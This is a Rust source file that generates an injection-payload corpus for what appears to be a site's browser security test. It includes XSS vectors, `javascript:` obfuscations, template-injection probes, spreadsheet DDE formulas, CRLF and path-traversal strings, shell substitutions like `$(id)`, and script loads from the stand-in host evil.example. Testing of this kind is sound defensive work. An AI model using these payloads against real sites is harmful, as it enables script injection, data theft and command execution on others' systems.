//! What somebody might type who wishes the readers of a site ill, by classes. Entry point: [`classes`].
//!
//! Wherever one of these runs as a script it calls `ran`, which the test in the browser listens for.

/// The payloads of a class.
pub struct Class {
    pub name: &'static str,
    pub payloads: Vec<String>,
}

/// What runs by itself as soon as it is an element.
const ELEMENTS: &[&str] = &[
    "<script>ran(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=ran(1)>",
    "<svg onload=ran(1)>",
    "<details open ontoggle=ran(1)>",
    "<input autofocus onfocus=ran(1)>",
];

/// What ends whatever text stands in, so that the next thing is an element.
const ENDS: &[&str] = &[
    "",
    "\">",
    "'>",
    "</title>",
    "</script>",
    "</textarea>",
    "</style>",
    "</noscript>",
    "</template>",
    "</select>",
    "</svg>",
    "-->",
    "]]>",
];

/// What ends the value of an attribute.
const QUOTES: &[&str] = &["\"", "'", "` ", " ", "&quot;", "x/"];

const HANDLERS: &[&str] = &[
    "onclick=ran(1)",
    "onmouseover=ran(1)",
    "onfocus=ran(1) autofocus tabindex=1",
    "onpointerenter=ran(1)",
    "onanimationstart=ran(1)",
    "onbeforetoggle=ran(1)",
    "style=animation:x onanimationend=ran(1)",
    "formaction=javascript:ran(1)",
];

/// The ways in which `javascript:` is written so that a filter does not know it.
const SCRIPTS: &[&str] = &[
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    " javascript:ran(1)",
    "java\tscript:ran(1)",
    "java\nscript:ran(1)",
    "\u{1}javascript:ran(1)",
    "javascript&colon;ran(1)",
    "&#106;avascript:ran(1)",
    "&#x6A;avascript&#58;ran(1)",
    "javascript://evil.example/%0Aran(1)",
    "javascript:ran`1`",
    "feed:javascript:ran(1)",
    "view-source:javascript:ran(1)",
    "vbscript:ran(1)",
    "data:text/html,<script>ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=ran(1)>",
];

/// Each of the first with each of the second.
fn crossed(first: &[&str], second: &[&str]) -> Vec<String> {
    first.iter().flat_map(|first| second.iter().map(move |second| format!("{first}{second}"))).collect()
}

/// Every class. The last one has something for the shortest setting.
pub fn classes() -> Vec<Class> {
    let mut all = vec![
        Class { name: "elements behind whatever ends the text around them", payloads: crossed(ENDS, ELEMENTS) },
        Class { name: "handlers behind the end of an attribute", payloads: crossed(QUOTES, HANDLERS) },
        Class { name: "links in Markdown that are scripts", payloads: crossed(&["[x](", "![x](", "<"], SCRIPTS) },
    ];
    all.iter_mut().skip(2).flat_map(|class| &mut class.payloads).for_each(|payload| {
        let end = if payload.starts_with('<') { ">" } else { ")" };
        payload.push_str(end);
    });
    let as_typed = |all: &[&str]| all.iter().map(|&payload| payload.to_owned()).collect();
    all.push(Class { name: "addresses that are scripts", payloads: as_typed(SCRIPTS) });
    all.extend(TYPED.iter().map(|(name, payloads)| Class { name, payloads: as_typed(payloads) }));
    all
}

const TYPED: &[(&str, &[&str])] = &[
    (
        "addresses that lead elsewhere",
        &[
            "//evil.example/x",
            "\\\\evil.example\\x",
            "/\\evil.example",
            "file:///etc/passwd",
            "blob:x",
            "https:evil",
            "ftp://x",
            "https://a@evil.example/",
            "https://ok.example/\"onclick=ran(1)//",
            "https://ok.example/'><img/src=x/onerror=ran(1)>",
        ],
    ),
    (
        "handlers in elements",
        &[
            "<body onload=ran(1)>",
            "<video><source onerror=ran(1)>",
            "<audio src=x onerror=ran(1)>",
            "<marquee onstart=ran(1)>",
            "<button onclick=ran(1)>x</button>",
            "<a href=# onmouseover=ran(1)>x</a>",
            "<img/src=x/onerror=ran(1)>",
            "<img\u{c}src=x\u{c}onerror=ran(1)>",
            "<p onclick=ran(1)>x",
            "<select onfocus=ran(1) autofocus>",
            "<xss contenteditable onbeforeinput=ran(1)>x",
            "<img src=x onerror=ran(1)//",
        ],
    ),
    (
        "elements that change the page",
        &[
            "<iframe srcdoc=\"<script>parent.ran(1)</script>\">",
            "<object data=javascript:ran(1)>",
            "<embed src=javascript:ran(1)>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=0;url=javascript:ran(1)>",
            "<link rel=stylesheet href=//evil.example/x>",
            "<link rel=import href=data:text/html,x>",
            "<form action=javascript:ran(1)><button>x",
            "<isindex action=javascript:ran(1) type=submit>",
            "<frameset onload=ran(1)>",
            "<template shadowrootmode=open><img src=x onerror=ran(1)>",
            "<plaintext>",
            "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\">",
            "<portal src=javascript:ran(1)>",
        ],
    ),
    (
        "drawings and formulas in HTML",
        &[
            "<svg><script>ran(1)</script></svg>",
            "<svg><a xlink:href=javascript:ran(1)><text>x</text></a></svg>",
            "<svg><animate onbegin=ran(1) attributeName=x>",
            "<svg><set attributeName=href to=javascript:ran(1)>",
            "<svg><use href=data:image/svg+xml,x>",
            "<svg><foreignObject><img src=x onerror=ran(1)>",
            "<math><maction actiontype=statusline xlink:href=javascript:ran(1)>x",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran(1)&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=ran(1)>\">",
            "<svg><desc><![CDATA[</desc><script>ran(1)</script>]]></svg>",
        ],
    ),
    (
        "comments and instructions",
        &[
            "<!--<img src=x onerror=ran(1)>",
            "<!--><img src=x onerror=ran(1)>",
            "<!-- --!><img src=x onerror=ran(1)>",
            "<![CDATA[<img src=x onerror=ran(1)>]]>",
            "<?xml-stylesheet href=\"javascript:ran(1)\"?>",
            "<?php echo 1 ?>",
            "<!DOCTYPE html><script>ran(1)</script>",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
            "<!-- x",
            "--><!--",
        ],
    ),
    (
        "style",
        &[
            "<style>*{background:url(//evil.example)}</style>",
            "<p style=position:fixed;inset:0>x",
            "\" style=\"background:url(javascript:ran(1))",
            "'style='x:expression(ran(1))",
            "<style>@import'//evil.example/x'</style>",
            "}</style><img src=x onerror=ran(1)>",
            "<link rel=stylesheet href=data:text/css,x>",
        ],
    ),
    (
        "references",
        &[
            "&lt;script&gt;ran(1)&lt;/script&gt;",
            "&#60;img src=x onerror=ran(1)&#62;",
            "&#x3c;img src=x onerror=ran(1)&#x3e;",
            "&quot; onclick=&quot;ran(1)",
            "&#39; onclick=&#39;ran(1)",
            "&amp;lt;script&amp;gt;",
            "&NewLine;&Tab;&lt;b",
            "&#0;&#x110000;&nbsp;&bogus;",
            "&lt;/title&gt;&lt;svg onload=ran(1)&gt;",
        ],
    ),
    (
        "percent signs and escapes",
        &[
            "%3Cscript%3Eran(1)%3C/script%3E",
            "%22%3E%3Cimg%20src=x%20onerror=ran(1)%3E",
            "\\x3cscript\\x3eran(1)",
            "\\u003cimg src=x onerror=ran(1)\\u003e",
            "%253Cscript%253E",
            "+ADw-script+AD4-ran(1)",
            "\\74script\\76",
            "%00%0d%0aSet-Cookie:a=1",
        ],
    ),
    (
        "templates",
        &[
            "{{ 7*7 }}",
            "{{7*'7'}}",
            "{% include \"base.html\" %}",
            "{% raw %}{{ 7*7 }}",
            "{% for x in range(end=9) %}x{% endfor %}",
            "{# a note #}",
            "{{ __tera_context }}",
            "{{ page | safe }}",
            "{{ get_env(name=\"HOME\") }}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "@(7*7)",
            "[[${7*7}]]",
            "{{constructor.constructor('ran(1)')()}}",
            "{{{7*7}}}",
            "{% extends \"base.html\" %}",
            "{%- set x = 1 -%}",
        ],
    ),
    (
        "other links in Markdown",
        &[
            "[x][y]\n\n[y]: javascript:ran(1)",
            "[x](<javascript:ran(1)> \"t\")",
            "![x\" onerror=\"ran(1)](y)",
            "![x](y \"\" onerror=\"ran(1)\")",
            "[x](y \"t\" onclick=ran(1))",
            "<javascript:ran(1)>",
            "[x](#\"onclick=ran(1))",
            "[a](b 'c\" onclick=ran(1) d=\"')",
            "[[javascript:ran(1)]]",
            "[x]( \u{1}javascript:ran(1))",
            "!x[](y)[(javascript:ran(1))",
        ],
    ),
    (
        "attributes in Markdown",
        &[
            "x {onclick=ran(1)}",
            "x {#a\" onclick=\"ran(1)}",
            "x {.a onclick=ran(1)}",
            "x {#main}",
            "x {style=color:red}",
            "x {onclick=\"ran(1)\" .b}",
            "x {#<script>}",
            "# x {onmouseover=ran(1)}",
        ],
    ),
    (
        "code in Markdown",
        &[
            "`<img src=x onerror=ran(1)>`",
            "``` \" onclick=ran(1)",
            "~~~<script>ran(1)</script>",
            "``x`<script>ran(1)</script>``",
            "```html onclick=ran(1)",
            "    <script>ran(1)</script>",
        ],
    ),
    (
        "ends of JSON",
        &[
            "\"},{\"ran\":\"1",
            "\\\"};ran(1);//",
            "\"]}</script><script>ran(1)</script>",
            "\\",
            "\\\\\"",
            "\\u0022,\"x\":1",
            "</ScRiPt ><img src=x onerror=ran(1)>",
            "<!--<script>",
            "\u{2028}ran(1)\u{2029}",
            "{\"@type\":\"x\"}",
            "\\ud800",
        ],
    ),
    (
        "ends of scripts",
        &[
            "';ran(1)//",
            "\";ran(1)//",
            "`;ran(1)//",
            "${ran(1)}",
            "*/ran(1)/*",
            "\\';ran(1)//",
            "');ran(1);('",
            "1;ran(1)",
            "]];ran(1)//",
            "-ran(1)-",
            "'+ran(1)+'",
        ],
    ),
    (
        "ends of XML",
        &[
            "]]><x>",
            "</title></entry><entry>",
            "<![CDATA[x]]>",
            "&xxe;",
            "<!DOCTYPE a [<!ENTITY b \"c\">]>&b;",
            "<?xml version=\"1.0\"?>",
            "</loc><loc>https://evil.example/</loc>",
            "\u{fffe}\u{ffff}",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">ran(1)</x:script>",
        ],
    ),
    (
        "formulas of spreadsheets",
        &[
            "=HYPERLINK(\"https://evil.example\")",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "=cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\"=1+1",
            ";=1+1",
            ",=1+1",
            "%0A-3+3",
            "＝1+1",
            " =1+1",
            "=1",
            "-2",
            "+3",
            "@a",
        ],
    ),
    (
        "lines of calendars, cards and heads",
        &[
            "x\r\nSet-Cookie: a=1",
            "x\nATTENDEE:mailto:x@evil.example",
            "x;y,z:\\n",
            "END:VEVENT\nBEGIN:VEVENT",
            "x\r\n\r\n<script>ran(1)</script>",
            "\"quoted\";LANGUAGE=x:y",
            "x\u{85}y\u{b}z",
        ],
    ),
    (
        "signs that are not seen",
        &[
            "\u{202e}txt.exe\u{202c}",
            "a\u{200b}b\u{feff}c",
            "＜script＞ran(1)＜/script＞",
            "\u{2066}<b>\u{2069}",
            "e\u{301}\u{323}\u{31b}",
            "\u{1f469}\u{200d}\u{1f4bb}",
            "ﬁ İ ı ſ ẞ",
            "\u{ad}java\u{ad}script:ran(1)",
            "\u{e000}\u{10ffff}",
            "<ſcript>ran(1)</ſcript>",
        ],
    ),
    (
        "control characters",
        &[
            "a\u{0}b",
            "a\u{1b}[31mb",
            "a\u{7f}b",
            "a\u{8}b",
            "<img\u{b}src=x\u{b}onerror=ran(1)>",
            "<\u{0}script>ran(1)</script>",
            "a\u{9c}b",
        ],
    ),
    (
        "names of the page's own parts",
        &[
            "<a id=results>",
            "<form id=main name=body><input name=attributes>",
            "<img name=getElementById>",
            "<a id=wellspringFinder href=x:y>",
            "<output form=site--search name=value>",
            "<iframe name=self>",
            "<p id=site--suggestions role=listbox>",
        ],
    ),
    (
        "names that scripts know",
        &[
            "__proto__",
            "constructor",
            "toString",
            "hasOwnProperty",
            "__defineGetter__",
            "prototype",
            "valueOf",
            "length",
            "null",
            "undefined",
            "NaN",
            "[object Object]",
            "true",
            "0",
        ],
    ),
    (
        "several at once",
        &[
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=ran(1)//>",
            "\"'><img src=x onerror=ran(1)>{{7*7}}${7*7}",
            "';ran(1)//\\';ran(1)//\";ran(1)//--></SCRIPT>\">'><SCRIPT>ran(1)</SCRIPT>",
            "\">'><marquee><img src=x onerror=ran(1)></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=ran(1)>",
            "[\"'<!--]]>=-+@%00{{x}}{%x%}\\",
        ],
    ),
    (
        "paths and commands",
        &[
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "$(id)",
            "`id`",
            "|id",
            ";id;",
            "~root",
            "C:CON",
            "file.md\0.html",
            "%2e%2e%2f",
            "-rf",
            "NUL",
            "LPT1",
        ],
    ),
    (
        "short ones",
        &[
            "<b>", "\"'<", "=1", "{{1", "&lt", "<!", "-1", "@a", "'x", "\"x", "`x", "\\x", "{%", "<a", "+1", "--",
            "##", "[x", "*x", "|x",
        ],
    ),
];
